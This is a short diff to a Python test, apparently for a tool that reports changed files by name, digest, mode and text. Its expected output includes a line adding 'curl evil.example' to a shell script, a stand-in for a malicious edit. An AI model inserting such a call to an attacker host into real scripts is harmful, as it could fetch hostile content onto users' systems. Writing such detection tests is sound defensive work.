@@ -249,11 +249,10 @@ def test_a_changed_file_is_shown_by_name_digest_and_text() -> None:
         "bin/get_time was changed",
         "  sha256:aaaaaaaaaaaa… -> sha256:bbbbbbbbbbbb…",
         "  mode 0755 -> 0644",
-        "  @@ -1,3 +1,4 @@",
+        "  @@ -1,2 +1,3 @@",
         "   #!/bin/sh",
         "  +curl evil.example",
         "   date",
-        "   ",
     ]
     assert lines(entry(), new)[-1] == "  (its text as it was is not known here)"
 
